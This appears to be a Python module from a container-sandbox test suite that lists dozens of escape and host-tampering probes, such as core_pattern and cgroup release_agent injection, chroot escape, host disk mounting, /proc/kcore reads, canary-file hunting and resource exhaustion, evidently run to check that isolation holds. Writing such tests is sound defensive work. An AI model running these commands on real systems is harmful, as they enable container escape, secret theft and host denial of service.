"""What the kernel offers: namespaces, mounts, devices, objects behind descriptors, and the files that steer it."""

from attacks import Attack, python, scripts

_NEW = {
    "user": 0x10000000,
    "mount": 0x20000,
    "pid": 0x20000000,
    "network": 0x40000000,
    "uts": 0x4000000,
    "ipc": 0x8000000,
    "cgroup": 0x2000000,
    "time": 0x80,
}
_NAMESPACES = {
    **{f"unshare {name}": python(f"stay(call('unshare', {flag}))") for name, flag in _NEW.items()},
    "unshare with a user of one's own": "unshare --user --map-root-user --mount --pid --fork sleep 0.4",
    "unshare all": "unshare -UmpnuiC --fork --mount-proc sleep 0.4",
    "clone with a new user": python(
        "pid = call('clone', 0x10000000 | 17, 0, 0, 0, 0)\nif pid == 0: time.sleep(0.5); os._exit(0)\nstay(pid)"
    ),
    "clone with all of them": python(
        "pid = call('clone', 0x7E020000 | 17, 0, 0, 0, 0)\nif pid == 0: time.sleep(0.5); os._exit(0)\nstay(pid)"
    ),
    "clone3": python(
        "words = struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)\n"
        "pid = call('clone3', ctypes.create_string_buffer(words), 88)\n"
        "if pid == 0: time.sleep(0.5); os._exit(0)\nstay(pid)"
    ),
    "enter those of the first process": python(
        "for name in os.listdir('/proc/self/ns'):\n    f = attempt(os.open, f'/proc/1/ns/{name}', 0)\n"
        "    if f is not None: call('setns', f, 0)\nstay(-1)"
    ),
    "nsenter": "nsenter -t 1 -a sleep 0.4; nsenter -t $$ -m sleep 0.4",
    "enter by a descriptor of a process": python("f = call('pidfd_open', 1, 0)\nstay(call('setns', f, 0x20000))"),
}
_MOUNTS = {
    "file system in memory": "mount -t tmpfs x /workspace && sleep 0.4",
    "bind": "mkdir x; mount --bind / x && sleep 0.4",
    "processes": "mkdir x; mount -t proc proc x && cat x/1/environ",
    "system": "mkdir x; mount -t sysfs sysfs x && sleep 0.4",
    "cgroups": "mkdir x; mount -t cgroup -o memory cgroup x || mount -t cgroup2 none x && sleep 0.4",
    "overlay": "mkdir a b c d; mount -t overlay -o lowerdir=/etc,upperdir=b,workdir=c overlay d && sleep 0.4",
    "root can be written": "mount -o remount,rw / && touch /evil",
    "masks removed": "umount /proc/keys /proc/timer_list /sys/firmware; umount -l /proc/sys && sleep 0.4",
    "propagation": "mount --make-rshared / && sleep 0.4",
    "disk of the host's": "mkdir x; for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/root; do mount $d x && cat "
    "x$CANARY; done",
    "new interface": python("stay(call('fsopen', 'tmpfs', 0))"),
    "tree of one's own": python("stay(call('open_tree', -100, '/', 1))"),
    "attributes": python(
        "stay(call('mount_setattr', -100, '/', 0x8000, ctypes.create_string_buffer(struct.pack('4Q', 0, 1, 0, 0)), 32))"
    ),
    "another root": python("os.mkdir('x')\ncall('pivot_root', 'x', 'x')\nstay(call('chroot', 'x'))"),
    "two roots up": python(
        "os.mkdir('x')\nf = os.open('.', 0)\nattempt(os.chroot, 'x')\nos.fchdir(f)\n"
        "for _ in range(60): os.chdir('..')\nattempt(os.chroot, '.')\nprint(open(os.environ['CANARY']).read())"
    ),
    "file system in a user's program": python("stay(attempt(os.open, '/dev/fuse', os.O_RDWR))"),
    "swap": python("open('s', 'wb').write(bytes(1 << 16))\ncall('swapon', 's', 0)"),
    "quota": python("call('quotactl', 0x80000200, '/dev/vda', 0, 0)"),
}
_DEVICES = {
    "disk": "mknod d b 254 0 && head -c 512 d; mknod e b 8 0 && head -c 512 e; sleep 0.1",
    "memory": "mknod m c 1 1 && head -c 16 m; head -c 16 /dev/mem; head -c 16 /dev/kmem; sleep 0.1",
    "kernel log": "mknod k c 1 11; head -c 4000 k; head -c 4000 /dev/kmsg",
    "virtual machines": python("stay(attempt(os.open, '/dev/kvm', os.O_RDWR))"),
    "loop": "mknod l b 7 0; mknod c c 10 237; losetup -f; exec 5<>/dev/loop-control && sleep 0.4",
    "console": "echo $MARK > /dev/console; echo $MARK > /dev/tty0; echo $MARK > /dev/tty1",
    "terminal of somebody": "for t in /dev/pts/* /dev/tty; do echo $MARK > $t; done; exec 5<>/dev/ptmx",
    "characters pushed into a terminal": python(
        "import fcntl\nfor path in ('/dev/tty', '/dev/pts/0', '/proc/1/fd/0'):\n    f = attempt(os.open, "
        "path, os.O_RDWR)\n"
        "    f is not None and attempt(fcntl.ioctl, f, 0x5412, b'x')"
    ),
    "by a file handle": python(
        "handle = ctypes.create_string_buffer(struct.pack('IiQ', 8, 1, 2), 144)\nfor path in ('/etc/hosts', "
        "'/', '/dev/null'):\n"
        "    f = attempt(os.open, path, 0)\n    stay(call('open_by_handle_at', f, handle, 0))"
    ),
}
_OBJECTS = {
    "io_uring": python("stay(call('io_uring_setup', 8, ctypes.create_string_buffer(120)))"),
    "map of bpf": python(
        "stay(call('bpf', 0, ctypes.create_string_buffer(struct.pack('5I', 2, 4, 4, 1, 0), 128), 72))"
    ),
    "program of bpf": python(
        "code = ctypes.create_string_buffer(struct.pack('2Q', 0xB7, 0x95))\nlicence = "
        "ctypes.create_string_buffer(b'GPL')\n"
        "words = struct.pack('2I2Q', 1, 2, ctypes.addressof(code), ctypes.addressof(licence))\n"
        "stay(call('bpf', 5, ctypes.create_string_buffer(words, 128), 72))"
    ),
    "page faults": python("stay(call('userfaultfd', 0))\nstay(attempt(os.open, '/dev/userfaultfd', os.O_RDWR))"),
    "performance counters": python(
        "words = struct.pack('2I5Q', 1, 112, 0, 0, 0, 0, 0)\n"
        "stay(call('perf_event_open', ctypes.create_string_buffer(words, 112), 0, -1, -1, 0))"
    ),
    "all that files do": python("stay(call('fanotify_init', 0, 0))"),
    "memory that nobody sees": python("stay(call('memfd_secret', 0))"),
    "descriptors of the first process": python(
        "p = call('pidfd_open', 1, 0)\nstay(*(call('pidfd_getfd', p, n, 0) for n in range(12)))"
    ),
    "kernel memory": "head -c 100 /proc/kcore | wc -c; exec 5</proc/kcore && sleep 0.4",
    "ports of the processor": python(
        "call('iopl', 3)\ncall('ioperm', 0x80, 1, 1)\nstay(attempt(os.open, '/dev/port', 2))"
    ),
}
_HOST = {
    "pattern of core dumps": 'echo "|/bin/sh -c $MARK" > /proc/sys/kernel/core_pattern',
    "program for modules": "echo /tmp/$MARK > /proc/sys/kernel/modprobe",
    "name of the machine": "echo $MARK > /proc/sys/kernel/hostname; hostname $MARK",
    "name by a system call": python("call('sethostname', os.environ['MARK'], 9)\ncall('setdomainname', 'evil', 4)"),
    "forwarding": "echo 1 > /proc/sys/net/ipv4/ip_forward; echo 0 > /proc/sys/kernel/randomize_va_space",
    "limits of the machine": "echo 77 > /proc/sys/kernel/pid_max; echo 7 > /proc/sys/fs/file-max",
    "overcommitment": "echo 2 > /proc/sys/vm/overcommit_memory; echo 1 > /proc/sys/vm/drop_caches",
    "help of the kernel's keys": "echo h > /proc/sysrq-trigger",
    "affinity of interrupts": "echo 0 > /proc/irq/default_smp_affinity",
    "program for devices": "echo /tmp/$MARK > /sys/kernel/uevent_helper; echo add > /sys/class/mem/null/uevent",
    "sleep of the machine": "echo freeze > /sys/power/state; echo test > /sys/power/disk",
    "binary formats": "echo ':x:M::x::/tmp/x:' > /proc/sys/fs/binfmt_misc/register",
    "clock": python(
        "t = time.time() + 3\ncall('clock_settime', 0, ctypes.create_string_buffer(struct.pack('2q', int(t), 0)))"
    ),
    "day": python(
        "t = time.time() + 3\ncall('settimeofday', ctypes.create_string_buffer(struct.pack('2q', int(t), 0)), 0)"
    ),
    "date": "date -s '2001-01-01'; hwclock --set --date '2001-01-01'",
    "pace of the clock": python("call('adjtimex', ctypes.create_string_buffer(struct.pack('IxxxxQ', 1, 99), 208))"),
    "module": python(
        "call('init_module', ctypes.create_string_buffer(b'\\x7fELF', 64), 64, '')\nos.system('insmod x.ko; "
        "modprobe dummy')"
    ),
    "restart": python(
        "call('reboot', 0xFEE1DEAD - (1 << 32), 672274793, 0, 0)\nos.system('reboot; shutdown now; poweroff')"
    ),
    "accounting": python("open('a', 'w').close()\ncall('acct', 'a')"),
    "words to the kernel's log": "echo $MARK > /dev/kmsg; echo $MARK > /proc/kmsg",
    "disk's settings": "for f in /sys/block/*/queue/read_ahead_kb; do echo 7 > $f; done",
    "file of the host's": "echo $MARK > $CANARY; echo $MARK > /proc/1/root$CANARY; mkdir -p $(dirname $CANARY)",
    "files by the layers of the image": (
        "grep -o 'upperdir=[^,]*' /proc/mounts; d=$(grep -o 'upperdir=[^,]*' /proc/mounts | cut -d= -f2);"
        "ls -la $d; echo $MARK > $d/evil; echo $MARK > $d/../../../../$CANARY"
    ),
}
_SECRETS = {
    "the kernel's log": python(
        "buffer = ctypes.create_string_buffer(1 << 18)\nn = call('syslog', 3, buffer, 1 << 18)\n"
        "print(SECRET.findall(buffer.raw))"
    )
    + "\ndmesg",
    "boot messages in files": "cat /proc/kmsg /var/log/* /run/log/* 2>&1 | grep -a canary",
    "file of the host's by its path": "cat $CANARY /proc/1/root$CANARY /host$CANARY /mnt$CANARY",
    "below every process": "for p in /proc/[0-9]*; do cat $p/root$CANARY $p/cwd$CANARY; done",
    "a search through everything": "grep -raslE 'canary-[0-9a-f]{32}' / --exclude-dir=proc --exclude-dir=sys | head -50"
    " | while read f; do grep -aoE 'canary-[0-9a-f]{32}' \"$f\"; done",
    "links that lead out": "ln -s ../../../../../../../../../../$CANARY x; cat x; cd /; cat ../../../$CANARY",
    "folders of the engine's": "ls /var/lib/docker /var/lib/containers; find / -xdev -name '*canary*' "
    "2>/dev/null | xargs -r cat",
    "processes of the machine": "cat /proc/*/cmdline /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a canary",
    "mounts that tell": "cat /proc/self/mountinfo /proc/1/mountinfo | grep -o '/[^ ]*canary[^ ]*' | xargs -r cat",
}
_CGROUPS = {
    "agent that is told of empty groups": (
        "for d in /sys/fs/cgroup/*/ /sys/fs/cgroup/; do mkdir $d/evil; echo 1 > $d/notify_on_release;"
        " echo \"/bin/sh -c 'echo $MARK > $CANARY'\" > $d/release_agent; done"
    ),
    "out of the group": "for f in $(find /sys/fs/cgroup -name cgroup.procs); do echo $$ > $f; echo 0 > "
    "${f%/*}/../cgroup.procs; done",
    "more memory": (
        "for f in $(find /sys/fs/cgroup -name 'memory.*limit*' -o -name memory.max); do echo -1 > $f; echo "
        "max > $f; done;"
        "python3 -c 'x = bytearray(200 << 20); import time; time.sleep(0.3)'"
    ),
    "more processes": "for f in $(find /sys/fs/cgroup -name pids.max); do echo max > $f; done; for i in "
    "$(seq 60); do sleep 9 & done",
    "more processor": "for f in $(find /sys/fs/cgroup -name 'cpu.*'); do echo -1 > $f; done; for i in 1 2 "
    "3; do yes >/dev/null & done; sleep 1",
    "all devices": "for f in $(find /sys/fs/cgroup -name devices.allow); do echo a > $f; done; mknod d b "
    "254 0 && head -c 9 d",
    "frozen server": "for f in $(find /sys/fs/cgroup -name 'freezer.state' -o -name cgroup.freeze); do echo "
    "FROZEN > $f; echo 1 > $f; done",
    "killed group": "for f in $(find /sys/fs/cgroup -name cgroup.kill); do echo 1 > $f; done",
    "no killer": "for f in $(find /sys/fs/cgroup -name memory.oom_control); do echo 1 > $f; done;"
    "python3 -c 'x = []\nwhile True: x.append(bytearray(1 << 20))'",
}
ATTACKS: list[Attack] = [
    *scripts("namespaces", "namespace", _NAMESPACES),
    *scripts("mounts", "namespace", _MOUNTS),
    *scripts("devices", "object", _DEVICES),
    *scripts("objects", "object", _OBJECTS),
    *scripts("host", "host", _HOST),
    *scripts("secrets", "secret", _SECRETS),
    *scripts("cgroups", "limits", _CGROUPS, 2.0),
]
